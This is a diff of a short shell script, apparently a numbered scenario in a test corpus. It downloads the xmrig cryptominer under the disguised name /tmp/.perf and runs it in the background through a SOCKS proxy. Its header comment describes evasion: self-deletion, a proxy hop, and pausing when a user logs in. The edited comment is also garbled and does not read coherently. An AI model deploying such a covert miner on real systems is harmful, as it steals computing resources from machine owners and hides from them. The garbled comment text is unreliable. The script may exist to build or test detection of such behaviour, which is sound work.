@@ -1,4 +1,5 @@
-# 5: deletes itself, goes out through a SOCKS hop, pauses when a login appears (a third to a half of the time it works).
+# 5: deletes itself, goes out through a SOCKS hop, pauses when a login appears: a file that this script puts there and takes away, so that it
+# works a third to a half of the time.
 . /opt/corpus/scenarios/lib.sh
 fetch xmrig /tmp/.perf; chmod +x /tmp/.perf
 /tmp/.perf $POOL_ARGS --proxy="$HOST:1080" &
